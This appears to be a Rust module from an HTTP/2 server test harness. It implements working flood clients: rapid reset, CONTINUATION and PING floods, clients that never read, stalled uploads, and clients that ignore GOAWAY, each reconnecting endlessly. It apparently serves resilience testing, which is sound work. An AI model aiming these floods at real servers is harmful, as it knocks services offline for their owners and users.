//! Owns what hostile clients send: bytes in waves, by clients that come back whenever they are thrown out.

use std::convert::Infallible;
use std::net::SocketAddr;
use std::time::Duration;

use tokio::io::{AsyncWriteExt, copy, sink};
use tokio::net::TcpStream;

use crate::harness::client::Failure;
use crate::harness::h2::frame::header_block;
use crate::harness::h2::{Frame, Kind, NO_LAST, PREFACE, RawH2, code, request, setting};

/// A kind of attack, by its waves: the number of the wave, from 0 on each connection.
#[derive(Clone, Copy, Debug)]
pub(super) struct Flood {
    pub(super) name: &'static str,
    pub(super) wave: fn(u32) -> Vec<u8>,
    /// Whether the client takes what comes back.
    pub(super) reads: bool,
    pub(super) pause: Duration,
}

const fn flood(name: &'static str, wave: fn(u32) -> Vec<u8>) -> Flood {
    Flood { name, wave, reads: true, pause: Duration::from_millis(1) }
}

/// Work that is begun and taken back, so that no limit of open streams is ever met.
pub(super) const RESETS: [Flood; 4] = [
    flood("HEADERS and RST_STREAM", rapid_reset),
    // As many as can be taken back without being thrown out.
    Flood { pause: Duration::from_millis(25), ..flood("resets at a walking pace", paced_reset) },
    flood("resets that the server is made to send", zero_increment),
    flood("DATA behind the end", data_behind_the_end),
];

/// Frames about the connection, and frames that carry nothing.
pub(super) const EMPTY: [Flood; 6] = [
    flood("PING", |_| many(2000, &Frame::ping([7; 8]))),
    Flood { reads: false, ..flood("PING, unread", |_| many(2000, &Frame::ping([7; 8]))) },
    flood("SETTINGS", |_| many(2000, &Frame::settings(&[(setting::INITIAL_WINDOW_SIZE, 65_535)]))),
    flood("empty DATA", empty_data),
    flood("WINDOW_UPDATE", |_| many(2000, &Frame::window_update(0, 1))),
    flood("frames that nobody knows", |_| many(2000, &Frame::new(Kind::Other(0xbe), 0, 0, vec![0; 16]))),
];

/// Heads that have no end.
pub(super) const HEADS: [Flood; 3] = [
    flood("CONTINUATION", |wave| endless_head(wave, &header_block(&[("x-more", "of the same")]))),
    flood("empty CONTINUATION", |wave| endless_head(wave, b"")),
    Flood { pause: Duration::from_millis(200), ..flood("a head that trickles in", one_more) },
];

const WAVE: u32 = 500;

fn many(count: usize, frame: &Frame) -> Vec<u8> {
    frame.encode().repeat(count)
}

/// The odd ids of one wave.
fn streams(wave: u32, each: u32) -> impl Iterator<Item = u32> {
    (wave * each..(wave + 1) * each).map(|number| 2 * number + 1)
}

fn get(stream: u32) -> Vec<u8> {
    request(stream, "GET", "/slow?ms=1000", &[]).end_stream().encode()
}

fn rapid_reset(wave: u32) -> Vec<u8> {
    streams(wave, WAVE).flat_map(|stream| [get(stream), Frame::reset(stream, code::CANCEL).encode()].concat()).collect()
}

/// Each wave takes back the streams of the one before.
fn paced_reset(wave: u32) -> Vec<u8> {
    const EACH: u32 = 16;
    let opened = streams(wave, EACH).flat_map(get);
    let earlier = if wave == 0 { Vec::new() } else { streams(wave - 1, EACH).collect() };
    earlier.into_iter().flat_map(|stream| Frame::reset(stream, code::CANCEL).encode()).chain(opened).collect()
}

/// A stream error by RFC 9113 §6.9, which the server has to answer with RST_STREAM.
fn zero_increment(wave: u32) -> Vec<u8> {
    streams(wave, WAVE).flat_map(|stream| [get(stream), Frame::window_update(stream, 0).encode()].concat()).collect()
}

fn data_behind_the_end(wave: u32) -> Vec<u8> {
    streams(wave, WAVE).flat_map(|stream| [get(stream), Frame::data(stream, b"more").encode()].concat()).collect()
}

fn empty_data(wave: u32) -> Vec<u8> {
    let head = if wave == 0 { request(1, "POST", "/upload", &[]).encode() } else { Vec::new() };
    [head, many(2000, &Frame::data(1, b""))].concat()
}

fn open_head(wave: u32) -> Vec<u8> {
    if wave == 0 { request(1, "GET", "/", &[]).end_stream().open_ended().encode() } else { Vec::new() }
}

fn endless_head(wave: u32, more: &[u8]) -> Vec<u8> {
    [open_head(wave), many(500, &Frame::new(Kind::Continuation, 0, 1, more.to_vec()))].concat()
}

fn one_more(wave: u32) -> Vec<u8> {
    [open_head(wave), many(1, &Frame::new(Kind::Continuation, 0, 1, Vec::new()))].concat()
}

// === impl Flood ===

impl Flood {
    /// Until it is aborted.
    pub(super) async fn run(self, address: SocketAddr) -> Infallible {
        loop {
            // Thrown out or refused: it comes back, but not in a spin.
            tokio::time::sleep(Duration::from_millis(5)).await;
            let Ok(stream) = TcpStream::connect(address).await else { continue };
            let (mut input, mut output) = stream.into_split();
            let writing = async {
                output.write_all(&[&PREFACE[..], &Frame::settings(&[]).encode()].concat()).await?;
                // Ids end at 2^31.
                for wave in 0..NO_LAST / (2 * WAVE) {
                    output.write_all(&(self.wave)(wave)).await?;
                    tokio::time::sleep(self.pause).await;
                }
                Ok::<(), std::io::Error>(())
            };
            let mut away = sink();
            tokio::select! {
                _ = writing => {}
                _ = copy(&mut input, &mut away), if self.reads => {}
            }
        }
    }
}

/// Asks for much and takes nothing, for as long as it is let.
pub(super) async fn never_reads(address: SocketAddr) -> Infallible {
    loop {
        if let Ok(mut raw) = RawH2::connect(address).await {
            raw.receive_buffer(4096);
            if raw.greet(&[(setting::INITIAL_WINDOW_SIZE, NO_LAST)]).await.is_ok() {
                for _ in 0..50 {
                    let stream = raw.fresh_stream();
                    let head = request(stream, "GET", "/bytes?n=1000000", &[]).end_stream();
                    let _ = raw.frame(head).await;
                }
                std::future::pending::<()>().await;
            }
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Begins uploads and never goes on with them.
pub(super) async fn begins_and_stops(address: SocketAddr) -> Infallible {
    loop {
        if let Ok(mut raw) = RawH2::open(address).await {
            for _ in 0..20 {
                let _ = raw.begin("/upload", &[]).await;
            }
            raw.ending(Duration::from_secs(60)).await;
        }
        tokio::time::sleep(Duration::from_millis(20)).await;
    }
}

/// Cares for no GOAWAY: opens streams for as long as the connection stands.
pub(super) async fn never_leaves(address: SocketAddr) -> Infallible {
    loop {
        if let Ok(mut raw) = RawH2::open(address).await {
            while raw.get("/slow?ms=30").await.is_ok() {
                match raw.next(Duration::from_millis(1)).await {
                    Ok(_) | Err(Failure::Timeout) => {}
                    Err(_) => break,
                }
            }
        }
        tokio::time::sleep(Duration::from_millis(5)).await;
    }
}
